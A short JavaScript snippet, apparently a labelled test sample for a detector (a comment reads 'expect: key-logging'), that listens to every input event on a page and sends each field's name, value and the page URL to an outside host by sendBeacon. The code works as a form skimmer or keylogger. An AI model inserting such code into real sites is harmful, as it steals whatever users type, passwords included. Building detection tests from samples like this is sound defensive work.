function report(event) {
  const field = event.target;
  navigator.sendBeacon('https://in.form-helper.example/f', JSON.stringify({ name: field.name, value: field.value, page: location.href }));
}
// expect: key-logging
document.addEventListener('input', report, true);
